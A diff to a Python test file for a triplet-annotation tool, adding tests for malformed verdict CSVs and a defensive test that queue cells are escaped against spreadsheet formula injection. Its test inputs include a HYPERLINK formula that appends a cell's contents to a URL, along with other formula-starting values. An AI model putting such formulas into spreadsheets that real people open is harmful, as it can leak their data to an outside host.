@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pandas as pd
@@ -9,7 +10,15 @@ import pytest
 
 from wb_embedder.brand_mentions import BrandMatcher, eval_brand_spellings
 from wb_embedder.config import Params
-from wb_embedder.triplets.annotation import AnnotationError, Verdicts, read_verdicts, triplet_id
+from wb_embedder.triplets.annotation import (
+    QUEUE_COLUMNS,
+    AnnotationError,
+    Verdicts,
+    read_annotation_table,
+    read_verdicts,
+    triplet_id,
+    write_queue,
+)
 from wb_embedder.triplets.generate import EmbeddingCache, TripletsError, generate_triplets
 from wb_embedder.triplets.tasks import polarity, product_text
 
@@ -255,6 +264,53 @@ def test_bad_verdict_files(tmp_path: Path, content: str, message: str) -> None:
     (tmp_path / "verdicts.csv").write_text(content, encoding="utf-8")
     with pytest.raises(AnnotationError, match=message):
         read_verdicts(tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"triplet_id,verdict\nabc,accept\ndef,reject,extra\n", r"verdicts.csv: row 2: 3 fields, the header has 2"),
+        (b"triplet_id,verdict,note\nabc,accept\n", r"verdicts.csv: row 1: 2 fields, the header has 3"),
+        (b"", r"verdicts.csv: empty file"),
+        ("triplet_id,verdict,note\nabc,accept,ок\ndef,reject,плохой негатив\n".encode("cp1251"),
+         r"verdicts.csv: row 1, column 'note': not UTF-8"),
+    ],
+)
+def test_malformed_verdict_files_name_file_and_row_in_one_line(tmp_path: Path, content: bytes, message: str) -> None:
+    (tmp_path / "verdicts.csv").write_bytes(content)
+    with pytest.raises(AnnotationError, match=message) as err:
+        read_verdicts(tmp_path)
+    assert "\n" not in str(err.value) and str(tmp_path / "verdicts.csv") in str(err.value)
+
+
+HOSTILE = ['=HYPERLINK("http://example.com/?"&A1,"click")', "=1+1", "+7 999 123-45-67", "-10% скидка",
+           "@user", "\tтаб", "\rвозврат", "'=уже в кавычках", "'просто кавычка", "обычный текст", "''"]
+
+
+def test_queue_cells_never_start_a_formula_and_read_back_unchanged(tmp_path: Path) -> None:
+    queue = pd.DataFrame(
+        [{"triplet_id": triplet_id("t", text, "p", "n"), "task": "review_reason", "anchor": text, "positive": text,
+          "negative": "n", "positive_score": -0.5, "negative_score": 0.25, "overlap": 0.0, "confidence": -0.75,
+          "verdict": "", "note": ""} for text in HOSTILE],
+        columns=QUEUE_COLUMNS,
+    )
+    path = tmp_path / "annotation_queue.csv"
+    write_queue(queue, path)
+    with open(path, encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row[2:5]]  # the text columns
+    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=1+1" in cells and "'-10% скидка" in cells
+
+    back = read_annotation_table(path)
+    for column in ("triplet_id", "task", "anchor", "positive", "negative"):
+        assert back[column].tolist() == queue[column].tolist(), column
+    # A judged copy of the queue, as a person saves it from the spreadsheet, keys the same triplets.
+    with open(path, encoding="utf-8", newline="") as handle:
+        header, *rows = list(csv.reader(handle))
+    (tmp_path / "annotations").mkdir()
+    with open(tmp_path / "annotations" / "judged.csv", "w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([header, *[[*row[:-2], "accept", row[-1]] for row in rows]])
+    assert read_verdicts(tmp_path / "annotations").by_id == {tid: "accept" for tid in queue["triplet_id"]}
 
 
 def test_unknown_task_in_groups_is_named(tiny_params: Params, tiny_clean, tiny_synonyms, base_model) -> None:
